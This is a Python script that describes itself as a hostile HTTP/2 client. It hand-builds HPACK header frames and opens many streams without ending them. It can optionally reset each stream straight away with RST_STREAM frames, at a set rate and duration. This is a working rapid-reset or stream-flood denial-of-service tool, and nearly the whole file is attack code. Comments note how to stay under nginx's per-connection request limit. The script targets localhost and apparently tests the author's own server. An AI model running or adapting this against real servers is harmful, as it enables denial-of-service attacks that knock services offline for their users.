"""A hostile HTTP/2 client, frame by frame: METHOD ADDRESS-BYTES CONTENT-LENGTH (or -) RESET (or -) LOT A-SECOND SECONDS FROM

No request ends its stream, so its body may still follow. RESET takes each one back at once.
"""

import base64, os, socket, ssl, sys, threading, time

method, size, length, reset, lot, rate, seconds, source = sys.argv[1:]
HEADERS, RST_STREAM, SETTINGS, END_HEADERS = 1, 3, 4, 4
tls = ssl.create_default_context()
tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
tls.set_alpn_protocols(["h2"])


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def text(value):  # HPACK's strings: the length begins with seven bits, then seven more in each byte
    rest = len(value) - 127
    return (bytes([len(value)]) if rest < 0 else bytes([127, rest & 127 | 128, rest >> 7])) + value.encode()


path = "/" + base64.urlsafe_b64encode(os.urandom(int(size))).decode()[: int(size)]
# What the first request of a connection says in full, the others name by its number in the table: 62 is the last one.
fields = [b"\x41" + text("avatar.spacefox.fr"), b"\x44" + text(path)] + [b"\x5c" + text(length)] * (length != "-")
start = b"\x83\x87" if method == "POST" else b"\x82\x87"
again = start + bytes(0x80 | 62 + i for i in range(len(fields)))
requests = sent = 0
begin = time.monotonic()
while time.monotonic() < begin + float(seconds):
    with tls.wrap_socket(socket.create_connection(("127.0.0.1", 443), 1, source_address=(source, 0))) as connection:
        message = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b"")
        block = start + b"".join(fields)
        try:
            for first in range(1, 2041, 2 * int(lot)):  # nginx lets a connection make 1,000 requests
                streams = range(first, first + 2 * int(lot), 2)
                for stream in streams:
                    message += frame(HEADERS, END_HEADERS, stream, block)
                    block = again
                connection.sendall(message)
                requests, sent, message = requests + len(streams), sent + len(message), b""
                time.sleep(max(0, min(begin + requests / float(rate), begin + float(seconds)) - time.monotonic()))
                if reset != "-":
                    message = b"".join(frame(RST_STREAM, 0, stream, b"\0\0\0\x08") for stream in streams)
                if time.monotonic() >= begin + float(seconds):
                    break
            connection.sendall(message)
            while connection.recv(65536):
                pass
        except OSError:
            pass  # nginx ends a connection that it takes for a flood
print(requests, "requests in", sent, "bytes")
